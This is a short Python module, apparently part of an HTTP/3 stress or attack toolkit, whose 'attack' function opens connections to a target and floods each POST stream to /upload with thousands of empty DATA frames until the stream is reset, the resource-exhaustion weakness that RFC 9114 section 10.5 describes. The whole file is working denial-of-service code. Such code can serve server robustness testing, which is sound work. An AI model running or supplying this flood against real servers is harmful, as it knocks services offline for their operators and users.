"""DATA frames of no bytes without end (RFC 9114, 10.5)."""

from wire.http3 import DATA, ask, frame, http3


async def attack(target):
    burst = frame(DATA) * 5000

    async def lane(number):
        async with http3(target, target.source(number)) as it:
            while it and target.goes_on():
                stream = it.stream()
                await it.send(stream, ask(b"POST", b"/upload"))
                while target.goes_on() and stream not in it.reset:
                    await it.send(stream, burst)

    await target.lanes(2, lane)
